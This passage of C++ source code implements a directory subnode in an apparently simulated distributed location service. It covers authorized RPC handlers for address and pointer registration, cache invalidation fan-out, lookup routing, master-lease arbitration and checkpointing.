          ResolveLookup(std::move(item), [state, i](Result<LookupResponse> result) {
            state->response.items[i] =
                result.ok() ? Result<Bytes>(result->Serialize()) : result.status();
            if (--state->remaining == 0) {
              state->respond(std::move(state->response));
            }
          });
        }
      });

  kGlsInsert.RegisterAsync(&server_, [this](const sim::RpcContext& context,
                                            AddressRequest request,
                                            EmptyResponder respond) {
    if (Status s = CheckAuthorized(context); !s.ok()) {
      ++stats_.denied;
      respond(s);
      return;
    }
    ++stats_.inserts;
    InvalidateCached(request.oid, /*quarantine=*/false);
    auto& at_oid = store_.Mutable(request.oid).addresses;
    if (std::find(at_oid.begin(), at_oid.end(), request.address) == at_oid.end()) {
      at_oid.push_back(request.address);
    }
    PropagatePointerUp(request.oid, std::move(respond));
  });

  kGlsInsertBatch.RegisterAsync(&server_, [this](const sim::RpcContext& context,
                                                 BatchAddressRequest request,
                                                 EmptyResponder respond) {
    if (Status s = CheckAuthorized(context); !s.ok()) {
      ++stats_.denied;
      respond(s);
      return;
    }
    ++stats_.batch_inserts;
    std::vector<ObjectId> to_propagate;
    std::set<ObjectId> seen;
    for (const auto& [oid, address] : request.items) {
      ++stats_.inserts;
      InvalidateCached(oid, /*quarantine=*/false);
      auto& at_oid = store_.Mutable(oid).addresses;
      if (std::find(at_oid.begin(), at_oid.end(), address) == at_oid.end()) {
        at_oid.push_back(address);
      }
      if (seen.insert(oid).second) {
        to_propagate.push_back(oid);
      }
    }
    PropagatePointerUpBatch(to_propagate, std::move(respond));
  });

  kGlsDelete.RegisterAsync(&server_, [this](const sim::RpcContext& context,
                                            AddressRequest request,
                                            EmptyResponder respond) {
    if (Status s = CheckAuthorized(context); !s.ok()) {
      ++stats_.denied;
      respond(s);
      return;
    }
    ApplyDelete(request.oid, request.address, std::move(respond));
  });

  kGlsDeleteBatch.RegisterAsync(&server_, [this](const sim::RpcContext& context,
                                                 BatchAddressRequest request,
                                                 EmptyResponder respond) {
    if (Status s = CheckAuthorized(context); !s.ok()) {
      ++stats_.denied;
      respond(s);
      return;
    }
    ++stats_.batch_deletes;
    if (request.items.empty()) {
      respond(sim::EmptyMessage{});
      return;
    }
    EmptyCallback join = JoinEmpty(request.items.size(), std::move(respond));
    for (const auto& [oid, address] : request.items) {
      ApplyDelete(oid, address, join);
    }
  });

  kGlsInstallPtr.RegisterAsync(&server_, [this](const sim::RpcContext& context,
                                                PointerRequest request,
                                                EmptyResponder respond) {
    if (Status s = CheckAuthorized(context); !s.ok()) {
      ++stats_.denied;
      respond(s);
      return;
    }
    ++stats_.pointer_installs;
    InvalidateCached(request.oid, /*quarantine=*/false);
    bool was_new =
        store_.Mutable(request.oid).pointers.insert(request.child_domain).second;
    if (was_new && !parent_.empty()) {
      PropagatePointerUp(request.oid, std::move(respond));
      return;
    }
    // The chain above already exists (or we are the root), but cached answers
    // above and beside us may still name only the farther replicas this OID
    // had before the registration below: mirror the delete chain's inval
    // fan-out so the new replica becomes visible without waiting out the TTL.
    // quarantine=false — fresh lookups should re-cache the new set at once.
    if (options_.enable_cache) {
      ++stats_.insert_invals;
    }
    PropagateInvalUp(request.oid, /*include_siblings=*/true,
                     /*quarantine=*/false, std::move(respond));
  });

  kGlsInstallPtrBatch.RegisterAsync(&server_, [this](const sim::RpcContext& context,
                                                     BatchPointerRequest request,
                                                     EmptyResponder respond) {
    if (Status s = CheckAuthorized(context); !s.ok()) {
      ++stats_.denied;
      respond(s);
      return;
    }
    std::vector<ObjectId> continue_up;
    std::vector<ObjectId> stale_chain;
    for (const ObjectId& oid : request.oids) {
      ++stats_.pointer_installs;
      InvalidateCached(oid, /*quarantine=*/false);
      bool was_new =
          store_.Mutable(oid).pointers.insert(request.child_domain).second;
      if (was_new && !parent_.empty()) {
        continue_up.push_back(oid);
      } else {
        stale_chain.push_back(oid);
      }
    }
    // Freshly installed pointers extend the chain above us; where the chain
    // already ends (or we are the root) the same inval fan-out as the
    // single-install path keeps stale cached answers from hiding the new
    // registration until TTL lapse.
    EmptyCallback join = JoinEmpty(1 + stale_chain.size(), std::move(respond));
    PropagatePointerUpBatch(continue_up, join);
    for (const ObjectId& oid : stale_chain) {
      if (options_.enable_cache) {
        ++stats_.insert_invals;
      }
      PropagateInvalUp(oid, /*include_siblings=*/true, /*quarantine=*/false,
                       join);
    }
  });

  kGlsRemovePtr.RegisterAsync(&server_, [this](const sim::RpcContext& context,
                                               PointerRequest request,
                                               EmptyResponder respond) {
    if (Status s = CheckAuthorized(context); !s.ok()) {
      ++stats_.denied;
      respond(s);
      return;
    }
    ++stats_.pointer_removes;
    InvalidateCached(request.oid, /*quarantine=*/true);
    if (DirectoryEntry* entry = store_.Find(request.oid)) {
      entry->pointers.erase(request.child_domain);
      if (entry->Empty()) {
        store_.Erase(request.oid);
      }
    }
    if (NumPointers(request.oid) == 0 && NumAddresses(request.oid) == 0) {
      PropagateRemoveUp(request.oid, std::move(respond));
      return;
    }
    // The chain stops pruning here, but subnodes above and beside us may still
    // cache the removed subtree's addresses.
    PropagateInvalUp(request.oid, /*include_siblings=*/true, /*quarantine=*/true,
                     std::move(respond));
  });

  kGlsInvalCache.RegisterAsync(&server_, [this](const sim::RpcContext& context,
                                                PointerRequest request,
                                                EmptyResponder respond) {
    // Cache purges are mutations of serving state: same authorization as the other
    // internal chain methods (a cached answer must never outlive a delete, but an
    // unauthenticated peer must not be able to flush caches either).
    if (Status s = CheckAuthorized(context); !s.ok()) {
      ++stats_.denied;
      respond(s);
      return;
    }
    InvalidateCached(request.oid, request.quarantine != 0);
    if (IsAlternateFor(request.oid)) {
      // Our home sibling received the same fan-out and carries the chain upward.
      respond(sim::EmptyMessage{});
      return;
    }
    PropagateInvalUp(request.oid, /*include_siblings=*/false,
                     request.quarantine != 0, std::move(respond));
  });

  kGlsScrubAddress.RegisterAsync(&server_, [this](const sim::RpcContext& context,
                                                  AddressRequest request,
                                                  EmptyResponder respond) {
    if (Status s = CheckAuthorized(context); !s.ok()) {
      ++stats_.denied;
      respond(s);
      return;
    }
    ScrubAddress(request.oid, request.address, std::move(respond));
  });

  kGlsAllocOid.Register(&server_,
                        [this](const sim::RpcContext&,
                               const sim::EmptyMessage&) -> Result<OidMessage> {
                          return OidMessage{ObjectId::Generate(&rng_)};
                        });

  // Ownership (fail-over) arbitration: claims and renewals are mutations of
  // serving state and carry the same authorization as the other write methods.
  kGlsClaimMaster.RegisterAsync(
      &server_, [this](const sim::RpcContext& context, ClaimWireRequest request,
                       std::function<void(Result<ClaimWireResponse>)> respond) {
        if (Status s = CheckAuthorized(context); !s.ok()) {
          ++stats_.denied;
          respond(s);
          return;
        }
        ResolveOwnership(/*is_claim=*/true, request, std::move(respond));
      });
  kGlsRenewLease.RegisterAsync(
      &server_, [this](const sim::RpcContext& context, ClaimWireRequest request,
                       std::function<void(Result<ClaimWireResponse>)> respond) {
        if (Status s = CheckAuthorized(context); !s.ok()) {
          ++stats_.denied;
          respond(s);
          return;
        }
        ResolveOwnership(/*is_claim=*/false, request, std::move(respond));
      });
}

void DirectorySubnode::SetSelf(DirectoryRef self) { self_ = std::move(self); }

bool DirectorySubnode::IsAlternateFor(const ObjectId& oid) const {
  return !self_.empty() && self_.subnodes[self_.SubnodeIndex(oid)] != endpoint();
}

std::vector<sim::Endpoint> DirectorySubnode::SiblingEndpoints() const {
  std::vector<sim::Endpoint> siblings;
  for (const sim::Endpoint& subnode : self_.subnodes) {
    if (subnode != endpoint()) {
      siblings.push_back(subnode);
    }
  }
  return siblings;
}

Status DirectorySubnode::CheckAuthorized(const sim::RpcContext& context) const {
  if (!options_.enforce_authorization) {
    return OkStatus();
  }
  if (registry_ == nullptr) {
    return Internal("authorization enforced but no key registry configured");
  }
  if (context.peer_principal == sec::kAnonymous || !context.integrity_protected) {
    return PermissionDenied("GLS registration requires an authenticated channel");
  }
  auto role = registry_->RoleOf(context.peer_principal);
  if (!role.ok()) {
    return PermissionDenied("unknown principal");
  }
  if (*role != sec::Role::kGdnHost && *role != sec::Role::kAdministrator) {
    return PermissionDenied("caller is not a GDN host");
  }
  return OkStatus();
}

const SubnodeStats& DirectorySubnode::stats() const {
  stats_.store_evictions = store_.evictions();
  stats_.store_fault_ins = store_.fault_ins();
  stats_.store_spilled_bytes = store_.spilled_bytes();
  stats_.store_peak_resident = store_.peak_resident();
  return stats_;
}

size_t DirectorySubnode::NumAddresses(const ObjectId& oid) const {
  DirectoryEntry scratch;
  const DirectoryEntry* entry = store_.Peek(oid, &scratch);
  return entry == nullptr ? 0 : entry->addresses.size();
}

size_t DirectorySubnode::NumPointers(const ObjectId& oid) const {
  DirectoryEntry scratch;
  const DirectoryEntry* entry = store_.Peek(oid, &scratch);
  return entry == nullptr ? 0 : entry->pointers.size();
}

uint64_t DirectorySubnode::OwnerEpoch(const ObjectId& oid) const {
  auto it = owners_.find(oid);
  return it == owners_.end() ? 0 : it->second.epoch;
}

uint64_t DirectorySubnode::OwnerVersionFloor(const ObjectId& oid) const {
  auto it = owners_.find(oid);
  return it == owners_.end() ? 0 : it->second.version_floor;
}

size_t DirectorySubnode::TotalEntries() const {
  size_t total = 0;
  store_.ForEachSorted([&total](const ObjectId&, const DirectoryEntry& entry) {
    total += entry.addresses.size() + entry.pointers.size();
  });
  return total;
}

void DirectorySubnode::InvalidateCached(const ObjectId& oid, bool quarantine) {
  if (options_.enable_cache && cache_.Invalidate(oid, clock_->Now(), quarantine)) {
    ++stats_.cache_invalidations;
  }
}

void DirectorySubnode::ResolveLookup(LookupWireRequest req, LookupResponder respond) {
  req.apex_depth = std::min(req.apex_depth, depth_);

  // One store access serves both the address check here and the pointer check
  // below: lookups are what drives the LRU, so a spilled hot OID faults back in
  // on its first lookup and stays resident. The pointer stays valid across the
  // cache probes between the two checks (no other store call intervenes).
  const DirectoryEntry* entry = store_.Find(req.oid);

  // Contact address here: done. Authoritative state always wins over the cache.
  if (entry != nullptr && !entry->addresses.empty()) {
    ++stats_.found_local;
    LookupResponse response;
    response.addresses = entry->addresses;
    response.hops = req.hops;
    response.found_depth = depth_;
    response.apex_depth = req.apex_depth;
    respond(std::move(response));
    return;
  }

  // Cached answer from an earlier descent or sideways handoff: done, without
  // re-walking the pointer chain. Every mutation touching the OID at this node
  // drops these entries, and delete chains fan out to all subnodes of a node.
  if (options_.enable_cache && req.allow_cached != 0) {
    if (const LookupCache::Entry* entry = cache_.Get(req.oid, clock_->Now())) {
      if (entry->negative != 0) {
        // A recent climb said NotFound: absorb the repeat miss here instead of
        // re-climbing. Inserts and pointer installs at this node drop the
        // entry; elsewhere the short negative TTL bounds the false-negative
        // window.
        ++stats_.negative_cache_hits;
        respond(NotFound("object not registered: " + req.oid.ToHex()));
        return;
      }
      ++stats_.cache_hits;
      LookupResponse response;
      response.addresses = entry->addresses;
      response.hops = req.hops;
      response.found_depth = entry->found_depth;
      response.apex_depth = req.apex_depth;
      response.from_cache = 1;
      respond(std::move(response));
      return;
    }
    ++stats_.cache_misses;
  }

  // Forwarding pointer here: descend into one child subtree, chosen at random if
  // several replicas exist in different children (paper §3.5). The returned contact
  // addresses populate this subnode's lookup cache.
  if (entry != nullptr && !entry->pointers.empty()) {
    const auto& children = entry->pointers;
    size_t pick = static_cast<size_t>(rng_.UniformInt(children.size()));
    auto child_it = children.begin();
    std::advance(child_it, pick);
    auto ref_it = children_.find(*child_it);
    if (ref_it == children_.end() || ref_it->second.empty()) {
      respond(Internal("forwarding pointer to unknown child directory"));
      return;
    }
    auto target =
        ref_it->second.TryRoute(req.oid, *client_, options_.lookup_route_mode);
    if (!target.ok()) {
      respond(target.status());
      return;
    }
    ++stats_.forwards_down;
    LookupWireRequest forward = req;
    forward.phase = kPhaseDown;
    ++forward.hops;
    kGlsLookup.Call(client_.get(), *target, forward,
                    [this, oid = req.oid,
                     respond = std::move(respond)](Result<LookupResponse> result) {
                      if (options_.enable_cache && result.ok() &&
                          !result->addresses.empty() && result->from_cache == 0) {
                        // Only authoritative answers enter the cache on descent:
                        // re-caching a descendant's cache hit would restart the TTL
                        // and compound staleness to depth x TTL.
                        cache_.Put(oid, result->addresses, result->found_depth,
                                   clock_->Now());
                      }
                      respond(std::move(result));
                    });
    return;
  }

  // No state for the OID here. If this subnode is not the OID's hash home on its
  // own node (power-of-two routing aimed the lookup at us for load spreading), the
  // lookup is handed sideways to the home sibling — but only where the home can
  // actually answer: on descent (the home must hold the forwarding pointer) and at
  // the root (nowhere left to climb). On a climb-path node the alternate climbs
  // directly instead, which is exactly what its home sibling would do, at zero
  // extra hops. The sideways answer is cached — cached or not at the home; a
  // re-cached home cache hit restarts the TTL, a deliberate 2x-TTL-at-one-node
  // staleness trade without which alternates could never absorb hot load — ONLY
  // when it was resolved within this level's subtree (apex did not rise above us):
  // exactly then the home holds the forwarding pointer, so this node's subnodes
  // are all covered by the delete-driven invalidation fan-out. An answer that
  // climbed must not be cached here, since no deregistration chain would ever
  // visit a pure climb-path node.
  if (IsAlternateFor(req.oid) && (req.phase == kPhaseDown || parent_.empty())) {
    ++stats_.forwards_sideways;
    LookupWireRequest forward = req;
    ++forward.hops;
    sim::Endpoint home = self_.subnodes[self_.SubnodeIndex(req.oid)];
    kGlsLookup.Call(client_.get(), home,
                    forward, [this, oid = req.oid, respond = std::move(respond)](
                                 Result<LookupResponse> result) {
                      if (options_.enable_cache && result.ok() &&
                          !result->addresses.empty() && result->apex_depth >= depth_) {
                        cache_.Put(oid, result->addresses, result->found_depth,
                                   clock_->Now());
                      }
                      respond(std::move(result));
                    });
    return;
  }

  // Going down this should not happen; going up we continue to the parent until
  // the root gives a definitive answer.
  if (req.phase == kPhaseDown) {
    respond(Internal("broken forwarding chain at depth " + std::to_string(depth_)));
    return;
  }
  if (parent_.empty()) {
    respond(NotFound("object not registered: " + req.oid.ToHex()));
    return;
  }
  // Load-aware climbs target only the root: it is the one ancestor guaranteed to
  // hold a forwarding pointer for every registered OID, so its alternates can
  // absorb load from their sideways-filled caches. A mid-tree parent's alternate
  // would instead climb past its pointer-holding sibling, pushing the very traffic
  // power-of-two choices is meant to spread up to the root.
  RouteMode climb_mode =
      depth_ == 1 ? options_.lookup_route_mode : RouteMode::kHashOnly;
  auto target = parent_.TryRoute(req.oid, *client_, climb_mode);
  if (!target.ok()) {
    respond(target.status());
    return;
  }
  ++stats_.forwards_up;
  LookupWireRequest forward = req;
  ++forward.hops;
  kGlsLookup.Call(client_.get(), *target, forward,
                  [this, oid = req.oid,
                   respond = std::move(respond)](Result<LookupResponse> result) {
                    if (options_.enable_cache && !result.ok() &&
                        result.status().code() == StatusCode::kNotFound) {
                      // Negative caching: a short-TTL NotFound entry absorbs
                      // repeat misses for this deleted/unknown OID. Invalidated
                      // by any insert/install_ptr that touches this subnode.
                      cache_.PutNegative(oid, clock_->Now());
                    }
                    respond(std::move(result));
                  });
}

void DirectorySubnode::ResolveLookupAll(LookupWireRequest req,
                                        LookupResponder respond) {
  req.apex_depth = std::min(req.apex_depth, depth_);

  // Climb strictly by hash to the OID's root home: the one node guaranteed to
  // hold a forwarding pointer for every registered address, which is what
  // makes the descent below exhaustive. No sideways handoff, no caches — an
  // enumeration answered from an alternate's cache could miss a registration
  // whose mutation chain never touched that subnode.
  if (req.phase == kPhaseUp && !parent_.empty()) {
    LookupWireRequest forward = req;
    ++forward.hops;
    kGlsLookupAll.Call(client_.get(), parent_.Route(req.oid), forward,
                       std::move(respond));
    return;
  }

  // Enumeration apex (the root, or the leaf of a depth-0 tree) and every node
  // on the way down: union the local addresses with the full set below EVERY
  // forwarding pointer — gls.lookup's random single-child descent is exactly
  // what a retire fan-out must not do.
  auto response = std::make_shared<LookupResponse>();
  response->hops = req.hops;
  response->found_depth = depth_;
  response->apex_depth = req.apex_depth;
  std::vector<sim::Endpoint> targets;
  if (const DirectoryEntry* entry = store_.Find(req.oid)) {
    response->addresses = entry->addresses;
    for (sim::DomainId child_domain : entry->pointers) {
      auto ref_it = children_.find(child_domain);
      if (ref_it != children_.end() && !ref_it->second.empty()) {
        targets.push_back(ref_it->second.Route(req.oid));
      }
    }
  }

  if (targets.empty()) {
    if (req.phase == kPhaseUp && response->addresses.empty()) {
      respond(NotFound("object not registered: " + req.oid.ToHex()));
    } else {
      respond(std::move(*response));
    }
    return;
  }

  auto remaining = std::make_shared<size_t>(targets.size());
  auto shared_respond = std::make_shared<LookupResponder>(std::move(respond));
  LookupWireRequest forward = req;
  forward.phase = kPhaseDown;
  ++forward.hops;
  for (const sim::Endpoint& target : targets) {
    kGlsLookupAll.Call(
        client_.get(), target, forward,
        [response, remaining, shared_respond](Result<LookupResponse> result) {
          if (result.ok()) {
            response->addresses.insert(response->addresses.end(),
                                       result->addresses.begin(),
                                       result->addresses.end());
            response->hops = std::max(response->hops, result->hops);
          }
          // A failed branch (partitioned subtree) yields a partial enumeration
          // rather than failing the whole walk: callers fence what they can
          // reach now; the unreachable replicas fence on their next contact.
          if (--*remaining == 0) {
            (*shared_respond)(std::move(*response));
          }
        });
  }
}

void DirectorySubnode::ResolveOwnership(
    bool is_claim, const ClaimWireRequest& request,
    std::function<void(Result<ClaimWireResponse>)> respond) {
  // Below the root: forward strictly by hash (never power-of-two — the record
  // must live at exactly one subnode) and relay the arbiter's answer.
  if (!parent_.empty()) {
    const auto& method = is_claim ? kGlsClaimMaster : kGlsRenewLease;
    method.Call(client_.get(), parent_.Route(request.oid), request,
                std::move(respond), sim::WriteCallOptions());
    return;
  }

  sim::SimTime now = clock_->Now();
  if (!is_claim) {
    ++stats_.lease_renewals;
    auto it = owners_.find(request.oid);
    if (it == owners_.end()) {
      if (request.known_epoch == 0) {
        respond(ClaimWireResponse{0, 0, ContactAddress{}});
        return;
      }
      // The arbiter lost its record (restored from an older checkpoint):
      // re-seed from the incumbent rather than forcing an election.
      it = owners_.emplace(request.oid,
                           OwnerRecord{request.known_epoch, request.claimant, 0,
                                       request.version})
               .first;
    }
    OwnerRecord& rec = it->second;
    // Incumbency is per host, not per endpoint: a master rebuilt after a
    // reboot comes back on a fresh port of the same node. The renewal also
    // refreshes the recorded address, so losers always adopt a live endpoint.
    if (request.known_epoch == rec.epoch &&
        rec.master.endpoint.node == request.claimant.endpoint.node) {
      rec.master = request.claimant;
      rec.lease_expires_at = now + request.lease_duration;
      // The renewal raises the acked-write floor: electable successors must
      // hold at least this much replicated state. Quorum masters publish their
      // exact commit floor through this path BEFORE acking the write, which is
      // what makes the floor an acked-write invariant rather than a lagging
      // (up-to-one-lease_interval-stale) hint.
      rec.version_floor = std::max(rec.version_floor, request.version);
      respond(ClaimWireResponse{1, rec.epoch, rec.master, rec.version_floor});
      return;
    }
    respond(ClaimWireResponse{0, rec.epoch, rec.master, rec.version_floor});
    return;
  }

  ++stats_.master_claims;
  OwnerRecord& rec = owners_[request.oid];
  bool vacant = rec.epoch == 0;
  // Host-based incumbency (see the renewal path): a master that rebooted onto
  // a fresh port can resume its own mastership without waiting out the lease,
  // while claims from other hosts stay fenced until the lease lapses.
  bool incumbent =
      !vacant && rec.master.endpoint.node == request.claimant.endpoint.node;
  bool lease_lapsed = rec.lease_expires_at <= now;
  // A claimant presenting an epoch strictly ahead of the record proves the
  // record is behind (this arbiter restored from an old checkpoint): its claim
  // must win even over a live lease, or a re-seeded stale master could depose
  // the real one and roll back acknowledged writes.
  bool ahead = request.known_epoch > rec.epoch;
  // Version floor: a non-incumbent claimant below the acked-write high-water
  // mark the master reported is provably missing acknowledged writes (e.g. a
  // slave evicted from the push fan-out before it resynced) — electing it
  // would roll the group back. The incumbent is exempt: its checkpoint
  // restore is the one sanctioned rollback (acked-since-checkpoint loss is
  // the documented crash-rebuild semantics). Under a strict floor (quorum
  // mode) the exemption is off — the floor is exact and binding for everyone,
  // including an incumbent restored from a pre-floor checkpoint: it must
  // resync from a quorum member instead of rolling acked writes back.
  bool fresh_enough = (incumbent && request.strict_floor == 0) ||
                      request.version >= rec.version_floor;
  // The conditional update: the claimant's view must not be behind the record
  // (epoch fence), mastership must actually be takeable — vacant, lapsed,
  // already the claimant's (a restarted master resuming), or provably ahead —
  // and the claimant must hold enough replicated state.
  if (request.known_epoch >= rec.epoch &&
      (vacant || incumbent || lease_lapsed || ahead) && fresh_enough) {
    ContactAddress deposed = rec.master;
    rec.epoch = std::max(request.known_epoch, rec.epoch) + 1;
    rec.master = request.claimant;
    rec.lease_expires_at = now + request.lease_duration;
    // A lease-only grant adopts the winner's version outright (the sanctioned
    // incumbent-restore rollback); a strict-floor grant can only raise it —
    // acked writes outlive every election.
    rec.version_floor = request.strict_floor
                            ? std::max(rec.version_floor, request.version)
                            : request.version;
    ++stats_.master_claims_granted;
    // Re-election changes which address is authoritative: purge our cached
    // answer and our siblings' (and quarantine re-caching) before answering, so
    // no root subnode keeps serving the deposed master from cache.
    InvalidateCached(request.oid, /*quarantine=*/true);
    if (!vacant && deposed.endpoint != request.claimant.endpoint) {
      // The loser's leaf registration is now stale; a crashed master never
      // deletes it itself, so it would otherwise linger until restart. Scrub
      // it from the registration subtree in the background — fire-and-forget,
      // because the grant must not block on leaf round-trips, and the scrub is
      // idempotent if it races the deposed master's own cleanup.
      ++stats_.stale_scrubs;
      ScrubAddress(request.oid, deposed, [](Result<sim::EmptyMessage>) {});
    }
    ClaimWireResponse response{1, rec.epoch, rec.master, rec.version_floor};
    PropagateInvalUp(request.oid, /*include_siblings=*/true, /*quarantine=*/true,
                     [respond = std::move(respond),
                      response](Result<sim::EmptyMessage>) { respond(response); });
    return;
  }
  respond(ClaimWireResponse{0, rec.epoch, rec.master, rec.version_floor});
}

void DirectorySubnode::ApplyDelete(const ObjectId& oid, const ContactAddress& address,
                                   EmptyResponder respond) {
  ++stats_.deletes;
  DirectoryEntry* entry = store_.Find(oid);
  if (entry == nullptr) {
    respond(NotFound("no such contact address registered"));
    return;
  }
  auto& at_oid = entry->addresses;
  auto pos = std::find(at_oid.begin(), at_oid.end(), address);
  if (pos == at_oid.end()) {
    respond(NotFound("no such contact address registered"));
    return;
  }
  at_oid.erase(pos);
  InvalidateCached(oid, /*quarantine=*/true);
  if (!at_oid.empty()) {
    // Other addresses remain here; the chain stays, but caches above and beside us
    // must not keep serving the removed address.
    PropagateInvalUp(oid, /*include_siblings=*/true, /*quarantine=*/true,
                     std::move(respond));
    return;
  }
  // No addresses left here; if no pointers either, drop the entry and prune
  // the chain above.
  bool has_pointers = !entry->pointers.empty();
  if (entry->Empty()) {
    store_.Erase(oid);
  }
  if (has_pointers) {
    PropagateInvalUp(oid, /*include_siblings=*/true, /*quarantine=*/true,
                     std::move(respond));
    return;
  }
  PropagateRemoveUp(oid, std::move(respond));
}

void DirectorySubnode::ScrubAddress(const ObjectId& oid, const ContactAddress& address,
                                    EmptyResponder respond) {
  const DirectoryEntry* entry = store_.Find(oid);
  if (entry != nullptr &&
      std::find(entry->addresses.begin(), entry->addresses.end(), address) !=
          entry->addresses.end()) {
    // Registered here: run the ordinary delete, which also fires the coherence
    // chain (inval fan-out or pointer prune) the removal requires.
    ApplyDelete(oid, address, std::move(respond));
    return;
  }
  if (entry == nullptr || entry->pointers.empty()) {
    // Nothing registered below us either — the address is already gone
    // (the deposed master cleaned up itself, or a duplicate scrub landed).
    respond(sim::EmptyMessage{});
    return;
  }
  // Descend every branch of the registration subtree: the stale leaf entry is
  // under exactly one of them, and the others answer cheaply with "not here".
  std::vector<sim::Endpoint> targets;
  for (sim::DomainId child : entry->pointers) {
    auto ref_it = children_.find(child);
    if (ref_it != children_.end() && !ref_it->second.empty()) {
      targets.push_back(ref_it->second.Route(oid));
    }
  }
  if (targets.empty()) {
    respond(sim::EmptyMessage{});
    return;
  }
  EmptyCallback join = JoinEmpty(targets.size(), std::move(respond));
  AddressRequest down{oid, address};
  for (const sim::Endpoint& target : targets) {
    kGlsScrubAddress.Call(client_.get(), target, down, join, sim::WriteCallOptions());
  }
}

void DirectorySubnode::PropagatePointerUp(const ObjectId& oid, EmptyResponder respond) {
  if (parent_.empty()) {
    respond(sim::EmptyMessage{});
    return;
  }
  PointerRequest up{oid, domain_};
  kGlsInstallPtr.Call(client_.get(), parent_.Route(oid), up, std::move(respond),
                      sim::WriteCallOptions());
}

void DirectorySubnode::PropagatePointerUpBatch(const std::vector<ObjectId>& oids,
                                               EmptyResponder respond) {
  if (parent_.empty() || oids.empty()) {
    respond(sim::EmptyMessage{});
    return;
  }
  // One install_ptr_batch message per parent subnode the OIDs hash to.
  std::map<size_t, std::vector<ObjectId>> groups;
  for (const ObjectId& oid : oids) {
    groups[parent_.SubnodeIndex(oid)].push_back(oid);
  }
  EmptyCallback join = JoinEmpty(groups.size(), std::move(respond));
  for (auto& [subnode_index, group] : groups) {
    BatchPointerRequest up{domain_, std::move(group)};
    kGlsInstallPtrBatch.Call(client_.get(), parent_.subnodes[subnode_index], up, join,
                             sim::WriteCallOptions());
  }
}

void DirectorySubnode::PropagateRemoveUp(const ObjectId& oid, EmptyResponder respond) {
  // With caching on, this node's siblings may hold sideways-filled entries for the
  // OID; drop those alongside the upward prune.
  std::vector<sim::Endpoint> sibling_invals =
      options_.enable_cache ? SiblingEndpoints() : std::vector<sim::Endpoint>{};
  size_t calls = sibling_invals.size() + (parent_.empty() ? 0 : 1);
  if (calls == 0) {
    respond(sim::EmptyMessage{});
    return;
  }
  // Chain traffic retries on loss: a dropped remove_ptr would orphan the
  // pointer chain, and a dropped inval_cache would leave a sibling serving a
  // deregistered address from cache until its TTL — exactly the coherence the
  // delete fan-out exists to guarantee. remove_ptr is deduped server-side;
  // inval_cache is idempotent, so repeats are harmless either way.
  EmptyCallback join = JoinEmpty(calls, std::move(respond));
  PointerRequest up{oid, domain_};
  if (!parent_.empty()) {
    kGlsRemovePtr.Call(client_.get(), parent_.Route(oid), up, join,
                       sim::WriteCallOptions());
  }
  for (const sim::Endpoint& sibling : sibling_invals) {
    kGlsInvalCache.Call(client_.get(), sibling, up, join, sim::WriteCallOptions());
  }
}

void DirectorySubnode::PropagateInvalUp(const ObjectId& oid, bool include_siblings,
                                        bool quarantine, EmptyResponder respond) {
  // Without caching there is nothing stale anywhere: keep the old single-message
  // delete cost. With caching, the fan-out reaches every subnode of every ancestor
  // node (and optionally this node's siblings) so no subnode can serve the
  // deregistered address from its cache — the home subnode at each level carries
  // the chain further up, its siblings stop after invalidating locally.
  if (!options_.enable_cache) {
    respond(sim::EmptyMessage{});
    return;
  }
  std::vector<sim::Endpoint> targets;
  if (include_siblings) {
    for (const sim::Endpoint& sibling : SiblingEndpoints()) {
      targets.push_back(sibling);
    }
  }
  for (const sim::Endpoint& parent_subnode : parent_.subnodes) {
    targets.push_back(parent_subnode);
  }
  if (targets.empty()) {
    respond(sim::EmptyMessage{});
    return;
  }
  EmptyCallback join = JoinEmpty(targets.size(), std::move(respond));
  PointerRequest up{oid, domain_};
  up.quarantine = quarantine ? 1 : 0;
  for (const sim::Endpoint& target : targets) {
    kGlsInvalCache.Call(client_.get(), target, up, join, sim::WriteCallOptions());
  }
}

Bytes DirectorySubnode::SaveState() const {
  // The wire format predates the merged store: addresses and pointers are two
  // separate sections. ForEachSorted visits in ascending OID order regardless
  // of hot/cold placement, so the checkpoint bytes are independent of the
  // access pattern that shaped the LRU.
  ByteWriter w;
  uint64_t addr_oids = 0;
  uint64_t ptr_oids = 0;
  store_.ForEachSorted([&](const ObjectId&, const DirectoryEntry& entry) {
    if (!entry.addresses.empty()) {
      ++addr_oids;
    }
    if (!entry.pointers.empty()) {
      ++ptr_oids;
    }
  });
  w.WriteVarint(addr_oids);
  store_.ForEachSorted([&](const ObjectId& oid, const DirectoryEntry& entry) {
    if (entry.addresses.empty()) {
      return;
    }
    oid.Serialize(&w);
    w.WriteVarint(entry.addresses.size());
    for (const auto& address : entry.addresses) {
      address.Serialize(&w);
    }
  });
  w.WriteVarint(ptr_oids);
  store_.ForEachSorted([&](const ObjectId& oid, const DirectoryEntry& entry) {
    if (entry.pointers.empty()) {
      return;
    }
    oid.Serialize(&w);
    w.WriteVarint(entry.pointers.size());
    for (sim::DomainId child : entry.pointers) {
      w.WriteU32(child);
    }
  });
  cache_.Serialize(&w);
  // Master-ownership records: fail-over arbitration must survive an arbiter
  // reboot, or a rebuilt root would re-grant epoch 1 and unfence stale masters.
  // The map is hashed now; write in sorted OID order for a stable checkpoint.
  std::vector<const ObjectId*> owner_keys;
  owner_keys.reserve(owners_.size());
  for (const auto& [oid, unused] : owners_) {
    owner_keys.push_back(&oid);
  }
  std::sort(owner_keys.begin(), owner_keys.end(),
            [](const ObjectId* a, const ObjectId* b) { return *a < *b; });
  w.WriteVarint(owners_.size());
  for (const ObjectId* oid : owner_keys) {
    const OwnerRecord& rec = owners_.at(*oid);
    oid->Serialize(&w);
    w.WriteU64(rec.epoch);
    rec.master.Serialize(&w);
    w.WriteU64(rec.lease_expires_at);
    w.WriteU64(rec.version_floor);
  }
  // The RPC server's at-most-once table rides along (the ROADMAP item): a
  // subnode rebuilt from this checkpoint still replays duplicates of mutations
  // the pre-crash server executed instead of running them twice.
  server_.SerializeDedup(&w);
  return w.Take();
}

Status DirectorySubnode::RestoreState(ByteSpan data) {
  ByteReader r(data);
  std::map<ObjectId, std::vector<ContactAddress>> addresses;
  std::map<ObjectId, std::set<sim::DomainId>> pointers;

  auto num_oids = r.ReadVarint();
  if (!num_oids.ok()) {
    return num_oids.status();
  }
  for (uint64_t i = 0; i < *num_oids; ++i) {
    ASSIGN_OR_RETURN(ObjectId oid, ObjectId::Deserialize(&r));
    ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
    auto& at_oid = addresses[oid];
    for (uint64_t j = 0; j < count; ++j) {
      ASSIGN_OR_RETURN(ContactAddress address, ContactAddress::Deserialize(&r));
      at_oid.push_back(address);
    }
  }
